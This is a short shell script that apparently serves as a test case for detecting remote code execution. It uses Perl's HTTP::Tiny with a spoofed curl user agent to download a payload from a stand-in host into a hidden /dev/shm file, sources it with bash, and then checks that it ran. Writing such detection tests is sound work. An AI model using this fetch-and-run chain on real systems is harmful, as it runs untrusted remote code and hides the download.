#!/bin/sh
. /opt/case/case.sh

perl -MHTTP::Tiny -e 'exit !HTTP::Tiny->new(agent => "curl/8.1")->mirror("http://203.0.113.10:8080/payload.sh", "/dev/shm/sem.x")->{success}'
bash -c '. /dev/shm/sem.x'
test -e /tmp/reached
took_place
